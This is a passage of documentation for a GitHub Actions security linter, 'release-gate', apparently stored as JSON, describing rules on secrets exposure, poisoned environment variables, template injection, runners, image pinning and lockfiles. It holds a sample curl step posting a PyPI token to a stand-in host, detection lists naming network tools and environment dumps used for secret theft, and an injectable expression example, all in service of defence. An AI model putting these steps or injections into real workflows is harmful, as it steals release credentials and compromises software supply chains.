a GitHub security advisory of the `actions` ecosystem\\n(`GET /advisories?ecosystem=actions&affects=owner/repo@version`). The version is the tag the\\npinned commit carries (the longest, `v4.2.1` over `v4`), or the full version in the pin's\\ncomment; a moving major tag is never queried as such.\\n\\n## Why it matters\\n\\ntj-actions/changed-files through 45.0.7 (GHSA-mrrh-fwg8-r2c3, CVE-2025-30066) printed runners'\\nsecrets into public logs; workflows still pinned to those versions run the compromised code.\\n\\n## How to fix\\n\\nUpdate to the first patched version the finding names, pinned by its full SHA.\\n\\n## Ignoring\\n\\n```yaml\\n      - uses: owner/repo@<sha> # release-gate: ignore[known-vulnerable-actions] -- not affected: we do not use the vulnerable input\\n```\\n\",\"missing-environment\":\"# missing-environment\\n\\nPublishing job without a deployment environment.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the publishing job (the job running the gate, or the jobs that publish) |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error for a registry upload; warning for a GitHub Release only, or after an environment-protected job without credentials |\\n| Configurable | `rules.missing-environment.*` |\\n| Example | [`test/fixtures/workflows/missing-environment/positive.yml`](../../test/fixtures/workflows/missing-environment/positive.yml) |\\n\\n## What it detects\\n\\nThe job that publishes has no `environment:`. When the environment sits on another job (the\\nbuild job, as in pypa/twine's release workflow), the message says where it is: a reviewer then\\napproves a job that does not publish, and the job that mints the registry token runs without\\napproval. A job that calls a reusable workflow cannot declare an environment; the fix says to\\ndeclare it in the called workflow.\\n\\nNot flagged: workflows where no job publishes.\\n\\n## Severity\\n\\nFollowing the README's severity policy:\\n\\n- **error**: a job that uploads to a registry (PyPI, npm, crates.io, RubyGems, a container\\n  registry, NuGet, Maven, conda) has no environment.\\n- **warning**: a job that only creates or edits a GitHub Release; a job that runs only after an\\n  environment-protected job and holds no OIDC token and no registry credential (no\\n  `id-token: write`, no secret other than `GITHUB_TOKEN`).\\n- **reusable workflows**: a job that calls a local reusable workflow (`uses:\\n  ./.github/workflows/x.yml`) is judged by the called workflow's publishing jobs: their\\n  environment counts for the caller, and a missing one is reported at the called file's line\\n  with the chain. Another repository's reusable workflow that could not be read is a warning\\n  saying it was not checked. An empty name (`environment: ''`) is no environment.\\n\\n## Why it matters\\n\\nAn environment is where GitHub enforces release rules: required reviewers, which branches\\nand tags may deploy, wait timers, and environment-scoped secrets. PyPI, npm and RubyGems\\ntrusted publishers can be bound to an environment name, so a token is minted only for a job\\nthat passed those rules. Without one, anyone who can push a workflow change to any branch can\\npublish. SPEC 8 requires it.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n  publish:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      id-token: write\\n```\\n\\nAfter:\\n\\n```yaml\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment:\\n      name: pypi\\n      url: https://pypi.org/p/<project>\\n    permissions:\\n      id-token: write\\n```\\n\\nThen, in the repository settings, give the `pypi` environment required reviewers and a\\ndeployment rule for tags (`v*`), and set the environment name in the trusted publisher.\\n\\n## Ignoring\\n\\n```yaml\\n  publish: # release-gate: ignore[missing-environment] -- approvals happen in the release PR\\n```\\n\",\"overprovisioned-secrets\":\"# overprovisioned-secrets\\n\\nEvery secret exposed to a step.\\n\\n| | |\\n| --- | --- |\\n| Applies to | expressions anywhere in the publishing job and the jobs it needs, and workflow-level `env:` |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error |\\n| Configurable | `rules.overprovisioned-secrets.*` |\\n| Example | [`test/fixtures/workflows/overprovisioned-secrets/positive.yml`](../../test/fixtures/workflows/overprovisioned-secrets/positive.yml) |\\n\\n## What it detects\\n\\n`${{ toJSON(secrets) }}` (the whole `secrets` context serialised) and `secrets[<computed>]`\\n(an index decided at run time, which can name any secret).\\n\\nNot flagged: `secrets['NAME']` with a literal name; `toJSON(github.event)` and other contexts.\\n\\n## Why it matters\\n\\nGitHub gives a step only the secrets its expressions name. `toJSON(secrets)` names all of\\nthem at once, so one compromised script or action in the step gets every credential of the\\nrepository.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n        env:\\n          ALL_SECRETS: ${{ toJSON(secrets) }}\\n```\\n\\nAfter:\\n\\n```yaml\\n        env:\\n          SLACK_TOKEN: ${{ secrets.SLACK_TOKEN }}\\n```\\n\\n## Ignoring\\n\\n```yaml\\n          ALL: ${{ toJSON(secrets) }} # release-gate: ignore[overprovisioned-secrets] -- reason\\n```\\n\",\"poisoned-environment\":\"# poisoned-environment\\n\\nthe gate can be bypassed from inside its job.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the workflow's `env:`, and the jobs the gate guards (their `env:`, their steps) |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error |\\n| Configurable | `rules.poisoned-environment.*` |\\n| Example | [`test/fixtures/workflows/poisoned-environment/positive.yml`](../../test/fixtures/workflows/poisoned-environment/positive.yml) |\\n\\n## What it detects\\n\\n- Workflow, job or step `env:` that changes how code is loaded or whom the job trusts:\\n  `NODE_OPTIONS` with `--require`/`--import`/`--loader`, `NODE_PATH`, `NODE_EXTRA_CA_CERTS`,\\n  `NODE_TLS_REJECT_UNAUTHORIZED: 0`, `LD_PRELOAD`, `LD_LIBRARY_PATH`, `LD_AUDIT`, `DYLD_*`,\\n  `BASH_ENV`, `ENV` naming a file, `PYTHONSTARTUP`, `PYTHONPATH`, `PYTHONHOME`,\\n  `PYTHONUSERBASE`, `PERL5OPT`, `PERL5LIB`, `RUBYOPT`, `RUBYLIB`, `JAVA_TOOL_OPTIONS`,\\n  `GIT_CONFIG_*`, `GIT_SSH_COMMAND`, `GIT_ASKPASS`, and the runner's own\\n  `ACTIONS_ID_TOKEN_REQUEST_URL`/`_TOKEN`, `ACTIONS_RUNTIME_*`, `ACTIONS_RESULTS_URL`,\\n  `ACTIONS_CACHE_URL`. The list is data in `src/workflow/catalogue.ts` (`LOADING_ENV`).\\n  Names are matched case-insensitively; a value written as an expression counts.\\n- `env:` written as one expression (`env: ${{ fromJSON(vars.ENV) }}`) on those levels.\\n- `continue-on-error` (true, or an expression) on the release-gate step or on its job.\\n- An `if:` on the release-gate step (other than `success()`, `always()`, `!cancelled()`,\\n  `true`): when it is false the gate is skipped and the job goes on.\\n- A later step of the gate's job whose `if:` uses `always()`, `failure()` or `cancelled()`\\n  (so it also runs after the gate failed) and that publishes or runs code: a `run:` script,\\n  a Docker or local action, or an action the catalogue does not know. A known action that\\n  publishes nothing (a Slack notice, an artifact upload) is not reported.\\n\\nSteps before the gate that run code are reported by [gate-order](gate-order.md), as an error.\\n\\n## Why it matters\\n\\nThe gate is a Node.js program that runs as a step of the job it guards. Whatever loads\\nbefore it in its own process — a `--require` module, a preloaded library, a forged OIDC\\nendpoint that signs \\\"the right\\\" claims — decides its verdict. And a verdict is only a\\nverdict when the job stops on it: `continue-on-error`, a skipped gate step or a publish\\nunder `if: always()` make a blocking finding a log line.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\nenv:\\n  NODE_OPTIONS: --require ./.github/preload.cjs\\njobs:\\n  publish:\\n    steps:\\n      - uses: octo-org/release-gate@<sha>\\n        continue-on-error: true\\n      - uses: pypa/gh-action-pypi-publish@<sha>\\n        if: ${{ !cancelled() }}\\n```\\n\\nAfter:\\n\\n```yaml\\njobs:\\n  publish:\\n    steps:\\n      - uses: octo-org/release-gate@<sha>\\n      - uses: pypa/gh-action-pypi-publish@<sha>\\n```\\n\\nSet what one build step needs in that step's script, in a job that does not publish.\\n\\n## Ignoring\\n\\n```yaml\\nenv:\\n  PYTHONPATH: src # release-gate: ignore[poisoned-environment] -- the publish job never runs Python\\n```\\n\",\"ref-version-mismatch\":\"# ref-version-mismatch\\n\\nVersion comment does not match the pinned commit.\\n\\n| | |\\n| --- | --- |\\n| Applies to | SHA pins with a version comment (`# v1.2.3`) in the audited files |\\n| Needs | the GitHub API (`contents: read`); \\\"not checked\\\" when offline |\\n| Default severity | warning |\\n| Configurable | `rules.ref-version-mismatch.*` |\\n| Example | [`test/fixtures/workflows/ref-version-mismatch/positive.yml`](../../test/fixtures/workflows/ref-version-mismatch/positive.yml) |\\n\\n## What it detects\\n\\n`uses: owner/repo@<sha> # v1.2.3` where tag `v1.2.3` points at another commit, or does not\\nexist. The message says which release the pinned commit actually is, when a tag names it.\\nBecause it is checked against the tags at run time, a tag that was **moved** after the workflow\\nwas written is caught although the workflow text did not change.\\n\\n## Why it matters\\n\\nThe comment is what reviewers read. It drifts when a tool bumps the SHA and not the comment,\\nand it lies when someone wants a change to look like a routine bump.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n      - uses: actions/checkout@<sha of v4.2.2> # v5.0.0\\n```\\n\\nAfter:\\n\\n```yaml\\n      - uses: actions/checkout@<sha of v4.2.2> # v4.2.2\\n```\\n\\n## Ignoring\\n\\n```yaml\\n      - uses: owner/repo@<sha> # v1 release-gate: ignore[ref-version-mismatch] -- reason\\n```\\n\",\"secret-exfiltration\":\"# secret-exfiltration\\n\\nSecret sent off the runner.\\n\\n| | |\\n| --- | --- |\\n| Applies to | `run:` scripts of the publishing job and the jobs it needs |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error (warning when the destination is decided at run time) |\\n| Configurable | `rules.secret-exfiltration.*` |\\n| Example | [`test/fixtures/workflows/secret-exfiltration/positive.yml`](../../test/fixtures/workflows/secret-exfiltration/positive.yml) |\\n\\n## What it detects\\n\\nIn a `run:` script, on one logical line (continuations joined):\\n\\n- a network command (`curl`, `wget`, `nc`, `Invoke-WebRequest`, `/dev/tcp/…`,\\n  `python -c` with `requests`/`urllib`, …) carrying `${{ secrets.X }}` or a variable bound to a\\n  secret, sent to a host that is not GitHub or a package registry, or to an IP address\\n  (a warning when the destination is a variable);\\n- the whole environment (`env`, `printenv`, `set`, `/proc/*/environ`) piped to the network,\\n  encoded (`base64`, `xxd`), or written to a file;\\n- a secret piped through `base64`/`xxd`, which prints it past GitHub's log masking;\\n- a secret written to a file in a job that uploads artifacts.\\n\\nNot flagged: `secrets.GITHUB_TOKEN` to `api.github.com`; a secret sent to its own service\\n(`hooks.slack.com`, the registries, codecov); a filtered `env | grep`.\\n\\n## Not exfiltration\\n\\nDecoding a secret into a file or a pipe is GitHub's own recipe for installing a signing\\ncertificate (`echo -n \\\"$CERT_BASE64\\\" | base64 --decode -o cert.p12`, `| base64 -d > cert.p12`,\\n`| base64 -d | security import …`): the decoded value never reaches the log. Printing it\\nencoded or decoded to the log (`echo \\\"$SECRET\\\" | base64`, with nothing after the encoder) is\\nreported: the log masks only the secret's own text.\\n\\nShapes read as sending: `curl`/`wget` to a URL or to a host written without a scheme\\n(`curl evil.example/x`), through a proxy (`-x`, `--proxy`: the proxy is where it goes), `nc`\\nand other raw sockets, a DNS lookup with the secret in the name (`nslookup`, `dig`, `host`),\\n`gh gist create`, and `shell: python`/`node`/`pwsh` scripts that make HTTP calls with a\\nsecret-bound variable in reach. Hosts compare case-insensitively. Only GitHub's API and the\\nregistries are known destinations; shared hosting (`*.amazonaws.com`, `hooks.slack.com`) is\\nnot, except for a secret named for the service (`SLACK_*` to `hooks.slack.com`, the\\ncatalogue's `SECRET_SERVICES`).\\n\\n## Why it matters\\n\\nThe GhostAction campaign (GitGuardian, September 2025) pushed a workflow step named \\\"Github\\nActions Security\\\" to 327 accounts' repositories: one `curl` posting PyPI, npm and DockerHub\\ntokens to an attacker's server. It looks like any other step in a diff.\\n\\n## How to fix\\n\\nRemove the step and rotate every secret it could read.\\n\\nBefore:\\n\\n```yaml\\n      - run: curl -s -X POST -d \\\"t=${{ secrets.PYPI_API_TOKEN }}\\\" https://example.invalid/\\n```\\n\\nAfter: nothing — publish with trusted publishing, which leaves no stored token to steal.\\n\\n## Ignoring\\n\\n```yaml\\n      - run: curl -H \\\"Authorization: ${{ secrets.TOKEN }}\\\" https://status.internal/ # release-gate: ignore[secret-exfiltration] -- our deploy tracker\\n```\\n\",\"secrets-inherit\":\"# secrets-inherit\\n\\nReusable workflow called with every secret.\\n\\n| | |\\n| --- | --- |\\n| Applies to | reusable-workflow calls in the publishing job's scope (error), and in the rest of the same workflow (warning) |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error; warning outside the publishing job's scope |\\n| Configurable | `rules.secrets-inherit.*` |\\n| Example | [`test/fixtures/workflows/secrets-inherit/positive.yml`](../../test/fixtures/workflows/secrets-inherit/positive.yml) |\\n\\n## What it detects\\n\\n`secrets: inherit` on a job that calls a reusable workflow, in the publishing job or a job it\\nneeds: an error. On another job of the same release workflow — one that runs after the\\npublishing job, say — it cannot change what is published, but it hands the release's\\ncredentials to code the gate does not guard, in the same run: a warning\\n([`outside-scope.yml`](../../test/fixtures/workflows/secrets-inherit/outside-scope.yml)).\\n\\n## Why it matters\\n\\n`inherit` hands every secret of the repository and organisation to the called workflow —\\nregistry tokens, signing keys, cloud credentials — whatever it declares. A compromise of the\\ncalled workflow, or of any action it uses, gets them all. Kong's release workflow passed\\n`secrets: inherit` to its test workflows in the weeks before its ingress-controller image\\nwas tampered with (December 2024).\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n  test-e2e:\\n    uses: ./.github/workflows/_e2e_tests.yaml\\n    secrets: inherit\\n```\\n\\nAfter:\\n\\n```yaml\\n  test-e2e:\\n    uses: ./.github/workflows/_e2e_tests.yaml\\n    secrets:\\n      KONNECT_TOKEN: ${{ secrets.KONNECT_TOKEN }}\\n```\\n\\n## Ignoring\\n\\n```yaml\\n    secrets: inherit # release-gate: ignore[secrets-inherit] -- org-internal workflow, pinned by SHA\\n```\\n\",\"self-hosted-runner\":\"# self-hosted-runner\\n\\nJob runs on a self-hosted runner.\\n\\n| | |\\n| --- | --- |\\n| Applies to | `runs-on` of the publishing job and the jobs it needs |\\n| Needs | the workflow file only (offline); the runner's `RUNNER_ENVIRONMENT` when inside a job |\\n| Default severity | error (warning when the runner is an expression that cannot be resolved) |\\n| Configurable | `rules.self-hosted-runner.*` |\\n| Example | [`test/fixtures/workflows/self-hosted-runner/positive.yml`](../../test/fixtures/workflows/self-hosted-runner/positive.yml) |\\n\\n## What it detects\\n\\n`runs-on` naming `self-hosted`, a runner `group:`, or a label that is not a GitHub-hosted\\nimage (`ubuntu-24.04`, `windows-latest`, `macos-15`, `ubuntu-24.04-arm`, …). Matrix\\nexpressions are expanded: `runs-on: ${{ matrix.os }}` is judged for every leg, with\\n`include:` and `exclude:` applied, and GitHub's `&&`/`||` value semantics\\n(`${{ matrix.runs-on || format('{0}-latest', matrix.os) }}`).\\n\\nInside a job, the runner says what it is: `RUNNER_ENVIRONMENT=self-hosted` is certain, and\\n`github-hosted` clears an unlisted label (a larger runner) on the job running the gate.\\n\\n## Hosted, self-hosted and allowed labels\\n\\n- GitHub's standard image labels and the names GitHub's larger runners are given\\n  (`ubuntu-24.04-xl`, `ubuntu-latest-4-cores`, `linux-arm-large`, `ubuntu-22.04-16core`,\\n  `github-windows-2025-x86_64-8`) are hosted: nothing is reported.\\n- Third-party runner services (Depot, Blacksmith, Namespace, RunsOn, BuildJet, WarpBuild,\\n  Ubicloud, Cirrus Runners) run on machines outside GitHub: self-hosted as far as GitHub is\\n  concerned, and reported with the service's name.\\n- Any other label is reported as self-hosted. Inside the job, `RUNNER_ENVIRONMENT` is the final\\n  word for the running job.\\n- An organisation allows its own runners, each with the reason, in `.github/release-gate.yml`\\n  (`*` globs; a runner group's name is matched too):\\n\\n  ```yaml\\n  rules:\\n    self-hosted-runner:\\n      config:\\n        allow-labels:\\n          - release-pool -- ephemeral, isolated runners that only run release jobs\\n          - label: depot-ubuntu-24.04*\\n            reason: Depot VMs are single-use; reviewed by the security team\\n  ```\\n\\n  An entry without a reason, or an option the rule does not have, is an error when the config\\n  is read.\\n\\n## Why it matters\\n\\nA self-hosted runner is not wiped between jobs. On a public repository, a pull request from a\\nfork can run on it and leave something behind for the next job — the release. That is how\\nresearchers reached TensorFlow's and PyTorch's release credentials (2023–2024).\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n    runs-on: [self-hosted, linux, ARM64]\\n```\\n\\nAfter:\\n\\n```yaml\\n    runs-on: ubuntu-24.04-arm\\n```\\n\\nIf a self-hosted runner is unavoidable, make it ephemeral (one job per machine), keep it in a\\nrunner group that only the release workflow may use, and never let pull requests reach it.\\n\\n## Ignoring\\n\\n```yaml\\n    runs-on: [self-hosted, hsm] # release-gate: ignore[self-hosted-runner] -- ephemeral runner with the signing HSM\\n```\\n\",\"template-injection\":\"# template-injection\\n\\nUntrusted text expanded into a script.\\n\\n| | |\\n| --- | --- |\\n| Applies to | `run:` and action inputs that run code, in the publishing job's scope, local composite actions and reusable workflows, action files |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error when a dangerous trigger reaches the step, warning otherwise |\\n| Configurable | `rules.template-injection.*` |\\n| Example | [`positive.yml`](../../test/fixtures/workflows/template-injection/positive.yml), [`flows.yml`](../../test/fixtures/workflows/template-injection/flows.yml) |\\n\\n## What it detects\\n\\nA `${{ }}` expression expanded into code, whose value is text an outsider chooses.\\n\\n**Sinks** (catalogue data, `sinks` in `src/workflow/catalogue.ts`): `run:`, and the action\\ninputs that run code — `actions/github-script` `script`, `azure/cli` and `azure/powershell`\\n`inlineScript`, `mikefarah/yq` and `devorbitus/yq-action-output` `cmd`, `appleboy/ssh-action`\\n`script`, `garygrossgarten/github-action-ssh` `command`, `Amadevus/pwsh-script` `script`,\\n`jannekem/run-python-script-action` `script`, `cardinalby/js-eval-action` `expression`,\\n`nick-fields/retry` and `Wandalen/wretry.action` `command`, and docker-run style actions\\n(`addnab/docker-run-action` and `kohlerdominik/docker-run-action` `run`,\\n`uraimo/run-on-arch-action` `run`/`install`, `pguyot/arm-runner-action` `commands`,\\n`cross-platform-actions/action` `run`, `vmactions/*-vm` `run`/`prepare`). The first of these\\nare CodeQL's `code-injection` sink models for Actions. Input names match case-insensitively,\\nas the runner matches them.\\n\\n**Sources** (catalogue data, `ATTACKER_CONTEXTS`): pull request, issue, comment, review and\\ndiscussion titles and bodies; `github.head_ref`, `github.event.pull_request.head.ref`/`label`\\nand the head repository's names; label names; commit messages and author and committer names\\nand e-mails (`commits`, `head_commit`, `merge_group`); `workflow_run` head branch, display\\ntitle, head commit and head repository; page names; `repository_dispatch`'s\\n`client_payload`; and **whole objects** that hold any of these (`toJSON(github.event)`,\\n`github.event.pull_request`, `github`). Context names are matched case-insensitively\\n(`GitHub.Event.Pull_Request.Title` is the title).\\n\\n**Values are followed** to the sink:\\n\\n- through `env:` at the workflow, job and step levels (`${{ env.TITLE }}` carries what `TITLE`\\n  was given, whatever the case of its name);\\n- through a **local composite action's `inputs.*`**, bound by the calling step's `with:`, or by\\n  the input's `default:` when the caller does not give it;\\n- through a **local reusable workflow's `inputs.*`**, bound by the calling job's `with:`;\\n- through a **matrix** whose values (or `include:` entries, or the whole matrix given as an\\n  expression) read such text.\\n\\nThe message names the source and the path it took (`it carries\\ngithub.event.pull_request.title (through env.PR_TITLE)`).\\n\\n**Severity is by who can start the run.** An outsider's text is an **error** when\\n`pull_request_target`, `workflow_run`, `issue_comment` or another trigger outsiders start can\\nreach the step (its job's and its own `if:` are evaluated) and that event carries the text (a\\npull request's title is empty in an `issue_comment` run; `github.head_ref` is set only for\\npull requests; `client_payload` comes only with `repository_dispatch`, which needs a token),\\na **warning** otherwise.\\n`inputs.*` of a workflow's own `workflow_dispatch`/`workflow_call` of type `string` are\\nwarnings: only someone with write access can start the run, but the text still becomes code.\\n\\n**Not detected:** `choice`, `boolean` and `number` inputs, SHAs, numbers, refs of pushes and\\nother fixed values (not reported on purpose); step outputs (`steps.*.outputs.*`) and job\\noutputs (`needs.*.outputs.*`), which are not followed; values written to `$GITHUB_ENV` or\\n`$GITHUB_OUTPUT` by a script (the write itself is reported when it expands attacker text);\\nremote composite actions and remote reusable workflows (their files are not read offline);\\nwhat a shell does with an environment variable (`eval \\\"$TITLE\\\"` is not expansion).\\n\\n### Where release-gate differs from zizmor, on purpose\\n\\n- **Weighted by trigger.** zizmor rates an expression by the context alone and ignores the\\n  trigger; release-gate blocks only when a trigger outsiders start can reach the step, and\\n  warns otherwise. A pull request title in a `push` workflow is a warning, not a block.\\n- **Deny-list, not allow-list.** zizmor reports unknown contexts and other expressions in code\\n  as lower-severity findings (a \\\"code smell\\\"); release-gate reports only values that come from\\n  an outsider or a dispatch input, so a release is not blocked by `${{ steps.x.outputs.y }}`.\\n- **Values followed.** release-gate follows `env:`, composite and reusable-workflow inputs and\\n  matrices to their source and reports the expression that carries attacker text, at its\\n  sink, with the path it took; zizmor rates `env.*` low and `matrix.*` medium without\\n  following them to where they were set.\\n- **Scope.** Only the publishing job, the jobs it needs, and what they call are audited.\\n\\n## Why it matters\\n\\nGitHub substitutes the expression into the script before the shell reads it, so\\n`\\\"${{ github.event.pull_request.title }}\\\"` lets the title close the quote and run commands.\\nThe Ultralytics release was compromised (December 2024) through a branch name expanded this\\nway (`github.head_ref`), and the nx packages (August 2025) through a pull request title.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n      - run: echo \\\"${{ github.event.pull_request.title }}\\\"\\n```\\n\\nAfter:\\n\\n```yaml\\n      - run: echo \\\"$TITLE\\\"\\n        env:\\n          TITLE: ${{ github.event.pull_request.title }}\\n```\\n\\nThe variable must be read by the shell (`\\\"$TITLE\\\"`), not expanded again (`${{ env.TITLE }}`\\nis the same injection). For an action input that runs code, pass the value through the\\nstep's `env:` and read it there (`process.env.TITLE` in github-script).\\n\\n## Ignoring\\n\\n```yaml\\n      - run: echo \\\"${{ inputs.notes }}\\\" # release-gate: ignore[template-injection] -- maintainers only; quoted by the script\\n```\\n\",\"ungated-publishing\":\"# ungated-publishing\\n\\npublishing job not guarded by the gate.\\n\\n| | |\\n| --- | --- |\\n| Applies to | every job of the running workflow, when the gate runs inside a job (or `--job` names it) |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error (warning for a call of a reusable workflow elsewhere that gets secrets or an OIDC token) |\\n| Configurable | `rules.ungated-publishing.*` |\\n| Example | [`test/fixtures/workflows/ungated-publishing/positive.yml`](../../test/fixtures/workflows/ungated-publishing/positive.yml) |\\n\\n## What it detects\\n\\nA job of the workflow release-gate runs in that publishes (the catalogue's publishing actions\\nand commands, or a reusable workflow of this repository whose jobs do) and is not guarded:\\n\\n- it does not run release-gate as a step itself, and\\n- it does not need the gate's job, directly or through other jobs, on a path where every job\\n  waits for its needs to succeed. A job whose `if:` uses `always()`, `failure()` or\\n  `cancelled()` runs after a failed or skipped need, unless the condition requires\\n  `needs.<job>.result == 'success'` as one of its top-level `&&` operands.\\n\\nA publish to a test index (TestPyPI) or a draft release (`gh release create --draft`) is a\\nrehearsal, not a release: it is not reported.\\n\\nA job that calls a reusable workflow in another repository with secrets or `id-token: write`\\nand does not wait for the gate is a warning: the gate cannot read that workflow here.\\n\\n## Why it matters\\n\\nThe gate blocks by failing its own job. A sibling job that publishes runs in parallel and\\nnever sees that failure; a job downstream with `if: always()` runs after it. Either way the\\nrelease goes out while the gate says no.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n  github-release:\\n    needs: [pypi]\\n    if: always()\\n```\\n\\nAfter:\\n\\n```yaml\\n  github-release:\\n    needs: [pypi]\\n```\\n\\nOr run release-gate as the first step of every publishing job.\\n\\n## Ignoring\\n\\n```yaml\\n  docs: # release-gate: ignore[ungated-publishing] -- publishes documentation only, to Read the Docs\\n```\\n\",\"unintentional-trigger\":\"# unintentional-trigger\\n\\nRelease can start without a release decision.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the workflow's `on:` and the publishing job's (and its publish steps') `if:` |\\n| Needs | the workflow file only (offline) |\\n| Default severity | warning |\\n| Configurable | `rules.unintentional-trigger.*` |\\n| Example | [`test/fixtures/workflows/unintentional-trigger/positive.yml`](../../test/fixtures/workflows/unintentional-trigger/positive.yml) |\\n\\n## What it detects\\n\\nThe publishing job — or, when release-gate can see them, its publish steps — can run on a\\npush to a branch, on a `schedule`, or on a plain `pull_request`. SPEC 8 wants a release to\\nstart from a `release` being published, a tag push, or a `workflow_dispatch`.\\n\\nStep-level and job-level `if:` are evaluated per trigger (`if: github.ref_type == 'tag'`\\nexcludes branch pushes). Publishing to a test index (TestPyPI) on every push is a rehearsal\\nand is not reported.\\n\\nPublishing on a push to main is the normal pattern of release bots (changesets, release-plz,\\nrelease-please): the message names the pattern, and it stays a warning.\\n\\n## Why it matters\\n\\nWhen any merge to main can publish, the release decision is whoever merges — or whoever\\ncompromises a merge. A schedule publishes whatever the branch holds at that moment.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\non:\\n  push:\\n    branches: [main]\\n```\\n\\nAfter:\\n\\n```yaml\\non:\\n  push:\\n    tags: ['v*']\\n```\\n\\nWith a release bot, keep the trigger and put the decision in an environment with required\\nreviewers.\\n\\n## Ignoring\\n\\n```yaml\\n  push: # release-gate: ignore[unintentional-trigger] -- changesets: merging the release PR is the decision\\n```\\n\",\"unlocked-dependency\":\"# unlocked-dependency\\n\\nDependency missing from the lock, or not as locked.\\n\\n| | |\\n| --- | --- |\\n| Applies to | every action the publishing job runs, direct and transitive |\\n| Needs | a lock in force: the workflow onboarded in `.github/workflows/actions.lock`, a `.github/workflows/gha.sum`, or the input `require-lock: true`; the API for transitive children and repository ids |\\n| Default severity | error |\\n| Configurable | `require-lock` input / `--require-lock`; `rules.unlocked-dependency.*` |\\n| Example | [`test/fixtures/workflows/unlocked-dependency/positive.yml`](../../test/fixtures/workflows/unlocked-dependency/positive.yml) |\\n\\n## What it detects\\n\\nrelease-gate reads GitHub's `actions.lock` as strictly as GitHub's parser (versions v0.0.1 to\\nv0.0.3, unknown keys, duplicates, cycles and files over 1 MiB rejected with line and column) and\\nghasum's `gha.sum`. When a lock is in force for the workflow it reports:\\n\\n- a direct or transitive dependency of the job that the lock does not cover (the locked\\n  closure is the workflow's listed keys plus everything reachable through `uses`);\\n- a composite whose action.yml **at its locked commit** uses an action that its lock entry does\\n  not record (children are re-derived through the API, not trusted from the file);\\n- a SHA pin whose version comment names a lock entry at another commit;\\n- a locked repository whose `owner_id`/`repo_id` are no longer the current ones (renamed, or\\n  deleted and its name registered by someone else).\\n\\nWhen a workflow is onboarded, a tag covered by the lock is reported by `unpinned-uses` and\\n`unpinned-transitive-uses` as a **note**: GitHub runs the locked commit.\\n\\nAn invalid or unreadable lockfile is `check-failed` and blocks. `require-lock: true` with no lock\\nat all blocks too.\\n\\n## Why it matters\\n\\nTags move, and a re-run can execute different code than the first attempt. A lock fixes the\\ncommits — but only if it covers everything the job runs, and only if the repositories are still\\nthe ones that were locked.\\n\\n## How to fix\\n\\nRe-lock and review the difference:\\n\\n```sh\\ngh actions-lock            # GitHub's actions.lock\\nrelease-gate lock          # ghasum's gha.sum, from the tarballs of the resolved commits\\ngit diff .github/workflows/actions.lock .github/workflows/gha.sum\\n```\\n\\n## Ignoring\\n\\n```yaml\\n      - uses: org/action@v1 # release-gate: ignore[unlocked-dependency] -- reason\\n```\\n\",\"unpinned-images\":\"# unpinned-images\\n\\nContainer image not pinned by digest.\\n\\n| | |\\n| --- | --- |\\n| Applies to | job `container:`, `services:`, `docker://` steps, Docker actions' `runs.image` |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error |\\n| Configurable | `rules.unpinned-images.*`, the `allow` list |\\n| Example | [`test/fixtures/workflows/unpinned-images/positive.yml`](../../test/fixtures/workflows/unpinned-images/positive.yml) |\\n\\n## What it detects\\n\\nAn image in the publishing job or a job it needs that is referenced by tag (`python:3.12`), by no\\ntag (implicitly `latest`), or by an expression, instead of `@sha256:<64 hex>`.\\n\\nNot flagged: images pinned by digest, with or without a tag before the digest\\n(`python:3.12-slim@sha256:…`).\\n\\n## Why it matters\\n\\nA tag in a registry is mutable: whoever can push to the repository (or compromises it) can\\nreplace `:3.12` with anything, and the job runs the new image with the job's token and secrets.\\nA container job or service shares the job's network and workspace. The digest names the exact\\nbytes.\\n\\n## How to fix\\n\\n```sh\\ndocker buildx imagetools inspect python:3.12-slim   # prints the digest\\n```\\n\\nBefore:\\n\\n```yaml\\n    container:\\n      image: python:3.12-slim\\n```\\n\\nAfter:\\n\\n```yaml\\n    container:\\n      image: python:3.12-slim@sha256:2b0079146a74e23bf4ae8f6a28e1b484c6292f6fb904cbb51825b4a19812fcd8\\n```\\n\\nDependabot (`package-ecosystem: docker`) and Renovate keep digests current.\\n\\n## Ignoring\\n\\n```yaml\\n    container:\\n      image: ghcr.io/octo/builder:edge # release-gate: ignore[unpinned-images] -- our own image, signed and verified in the next step\\n```\\n\",\"unpinned-transitive-uses\":\"# unpinned-transitive-uses\\n\\nAction used by an action is not pinned.\\n\\n| | |\\n| --- | --- |\\n| Applies to | composite actions and reusable workflows reached from the publishing job's scope, at any depth |\\n| Needs | the GitHub API (`contents: read`); \\\"not checked\\\" when offline |\\n| Default severity | error |\\n| Configurable | `rules.unpinned-transitive-uses.*` |\\n| Example | [`test/fixtures/workflows/unpinned-transitive-uses/positive.yml`](../../test/fixtures/workflows/unpinned-transitive-uses/positive.yml) |\\n\\n## What it detects\\n\\nrelease-gate resolves every `uses:` of the scope to its commit, reads its `action.yml` (or the\\nreusable workflow) **at that commit**, and follows composite steps and reusable workflows'\\njobs and steps down to the runner's own limit of 9 levels. It reports:\\n\\n- a nested `uses:` pinned to a tag, a branch or an expression, with the whole chain:\\n  `release.yml › publish › org/a@<sha> › org/b@v2`, at the top-level `uses:` line;\\n- a Docker action whose `runs.image` is `docker://…` without a digest, or a `docker://` step\\n  inside a composite;\\n- a remote composite that uses `./path` (resolved against *your* checkout, not its own\\n  repository), and nesting beyond the runner's limit.\\n\\nA Docker action that builds a `Dockerfile` at run time is reported as a **note**: it is built\\nfrom the pinned commit, 